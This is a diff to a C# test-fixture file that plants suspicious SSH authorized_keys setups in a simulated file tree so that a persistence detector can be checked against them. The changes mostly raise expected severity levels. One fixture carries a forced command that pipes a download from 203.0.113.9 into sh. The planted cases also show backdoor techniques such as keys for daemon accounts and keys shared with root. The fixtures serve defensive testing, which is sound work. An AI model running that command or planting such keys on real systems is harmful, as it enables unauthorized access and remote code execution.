@@ -20,12 +20,12 @@ internal static class SshPlants
         new("L-SSH-KEYS", "forced-command-downloads", Loud, tree => RootKey(tree, "command=\"curl -fsSL http://203.0.113.9/a | sh\" " + Key("x", "deploy@ci"))),
         new("L-SSH-KEYS", "quiet-forced-command", Quiet, tree => RootKey(tree, "command=\"/usr/sbin/netmond\" " + Key("y", "backup@vault")).LinkedNetmond()) { Entries = [] },
         new("L-SSH-KEYS", "quiet-forced-command-others-may-write", Dormant, tree => RootKey(tree, "command=\"/usr/sbin/netmond\" " + Key("y", "backup@vault"), 0b110_110_110).LinkedNetmond()) { TwinOf = "quiet-forced-command" },
-        new("L-SSH-KEYS", "quiet-key-of-a-daemon", Quiet, tree => tree.File("/var/www/.ssh/authorized_keys", Key("z", "deploy@web"), 0b110_000_000, 33, 33)) { Entries = [], Rule = "service-account" },
-        new("L-SSH-KEYS", "quiet-key-of-a-daemon-in-usr-sbin", Quiet, tree => tree.File("/usr/sbin/.ssh/authorized_keys", Key("z", "deploy@web"), 0b110_000_000, 1, 1)) { Entries = [] },
+        new("L-SSH-KEYS", "quiet-key-of-a-daemon", Quiet, tree => tree.File("/var/www/.ssh/authorized_keys", Key("z", "deploy@web"), 0b110_000_000, 33, 33)) { Entries = [], AtLeast = Severity.Medium, Rule = "account-without-shell" },
+        new("L-SSH-KEYS", "quiet-key-of-a-daemon-in-usr-sbin", Quiet, tree => tree.File("/usr/sbin/.ssh/authorized_keys", Key("z", "deploy@web"), 0b110_000_000, 1, 1)) { Entries = [], AtLeast = Severity.Medium },
         new("L-SSH-KEYS", "quiet-same-key-as-root", Quiet, tree => RootKey(tree, Key("s", "alice@laptop")).File("/home/alice" + Keys, Key("s", "alice@laptop"), 0b110_000_000, 1000, 1000)) { Entries = [], AtLeast = Severity.Medium, Rule = "shared-with-root" },
         new("L-SSH-KEYS", "quiet-locked-file", Quiet, tree => RootKey(tree, Key("l", "ops@bastion")).Change("/root" + Keys, file => file with { Flags = 0x10 })) { Entries = [], AtLeast = Severity.Medium },
         new("L-SSH-KEYS", "quiet-key-in-central-file", Quiet, tree => tree.File("/etc/ssh/sshd_config.d/20-keys.conf", "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys.d/%u\n").File("/etc/ssh/keys.d/www-data", Key("c", "web@build")))
-            { Entries = [] },
+            { Entries = [], AtLeast = Severity.Medium },
         new("L-SSH-KEYS", "quiet-planted-key-pair", Quiet, tree => RootKey(tree, Key("p", "root@web01")).File("/root/.ssh/id_rsa1822.pub", Key("p", "root@web01")).File("/root/.ssh/id_rsa1822", "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n", 0b110_000_000))
             { Entries = [], AtLeast = Severity.Medium, Rule = "private-key-beside" },
         new("L-SSH-KEYS", "misspelt-file-name", Loud, tree => tree.File("/root/.ssh/authoried_keys", Key("m", "root@host"), 0b110_000_000)) { AtLeast = Severity.Medium, Rule = "misspelt-file" },
